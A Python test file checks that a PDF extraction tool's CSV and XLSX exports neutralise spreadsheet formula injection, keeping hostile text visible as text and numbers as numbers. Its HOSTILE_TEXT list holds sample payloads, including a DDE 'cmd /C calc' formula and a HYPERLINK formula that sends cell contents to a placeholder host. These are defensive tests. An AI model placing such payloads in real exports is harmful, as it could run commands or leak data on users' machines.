"""Issue 14, defect 2: text from a PDF, a manifest or a reviewer never becomes a live formula in
an export (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv

import pytest

from conftest import sec_case, SHARED
from test_review_support import synthetic_extraction

LEADS = ("=", "+", "-", "@", "\t", "\r")


def _live(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: a formula lead, unless it is a plain number or a lone
    dash (``-3``, ``+5``, ``-``: data, kept as printed; see ``extractor.render.csv_cell``)."""
    import re

    if re.fullmatch(r"[+-]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?|-{1,2}", cell):
        return False
    return cell.startswith(LEADS)
HOSTILE_TEXT = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
                "\t=1+1", "\r=1+1"]



def _check_csv(path, hostile: list[str]) -> None:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    cells = [c for r in body for c in r]
    assert cells, "nothing exported"
    for c in cells:
        assert not _live(c), c  # a spreadsheet would evaluate it
    for h in hostile:  # kept, visibly, as text
        assert any(c == "'" + h for c in cells), h
    for r in body:
        row = dict(zip(header, r))
        for k, v in row.items():
            if k.startswith(("review.", "applications.")) and v:
                assert v.lstrip("-").replace(".", "", 1).isdigit(), (k, v)  # a number, not "'…"


def _check_xlsx(path, hostile: list[str]) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(path)  # not read-only: data_type tells formulas from strings
    seen = []
    numbers = 0
    for ws in wb.worksheets:
        header = [c.value for c in ws[1]]
        for row in ws.iter_rows(min_row=2):
            for h, c in zip(header, row):
                assert c.data_type != "f", (h, c.value)
                if isinstance(c.value, str):
                    seen.append(c.value)
                if h and str(h).startswith("review.") and c.value is not None:
                    assert isinstance(c.value, (int, float)), (h, c.value)
                if isinstance(c.value, (int, float)) and not isinstance(c.value, bool):
                    assert c.data_type == "n"
                    numbers += 1
    assert numbers > 0
    for h in hostile:
        # the exact text, as a string cell (openpyxl's plain XML reader gives a carriage return back
        # as a line feed; with lxml installed it keeps it)
        assert any(v in (h, h.replace("\r", "\n")) for v in seen), h


def test_formula_title_pdf_exports_as_text(tmp_path):
    from extractor.pipeline import extract
    from extractor.store import open_store
    from extractor.store.export import export

    pdf = sec_case("formula_title.pdf")
    ex = extract(pdf)
    assert (ex.report.title or "").startswith("=")  # what the PDF says
    store = open_store(f"sqlite:///{tmp_path / 'f.db'}")
    store.save_extraction(ex, str(pdf), source_url="=1+1")
    for long in (False, True):
        out = tmp_path / f"e{long}.csv"
        export(store, out, "csv", long=long)
        _check_csv(out, [ex.report.title] if not long else [])
        out = tmp_path / f"e{long}.xlsx"
        export(store, out, "xlsx", long=long)
        _check_xlsx(out, [ex.report.title] if not long else [])
    with (tmp_path / "eFalse.csv").open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["source_url"] == "'=1+1" and row["title"] == "'" + ex.report.title
    store.close()


def test_every_formula_lead_is_neutralised_and_numbers_stay_numbers(tmp_path):
    from extractor.store import open_store
    from extractor.store.export import export

    store = open_store(f"sqlite:///{tmp_path / 'h.db'}")
    for i, text in enumerate(HOSTILE_TEXT):
        ex = synthetic_extraction(tag=f"h{i}", agency=text)
        store.save_extraction(ex, f"r{i}.pdf", source_url=text)
    export(store, tmp_path / "w.csv", "csv")
    _check_csv(tmp_path / "w.csv", HOSTILE_TEXT)
    export(store, tmp_path / "w.xlsx", "xlsx")
    _check_xlsx(tmp_path / "w.xlsx", HOSTILE_TEXT)
    # a typed agency (a reviewer's text) goes through the same writers
    fid = store.field_by_key(1, "review.total").id
    store.review_field(fid, 11, who="alice", how="typed")
    export(store, tmp_path / "l.csv", "csv", long=True)
    with (tmp_path / "l.csv").open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.DictReader(fh):
            assert not any(_live(v) for v in row.values())
            if row["key"] == "review.total" and row["report_id"] == "1":
                assert row["value"] == "11"
    store.close()
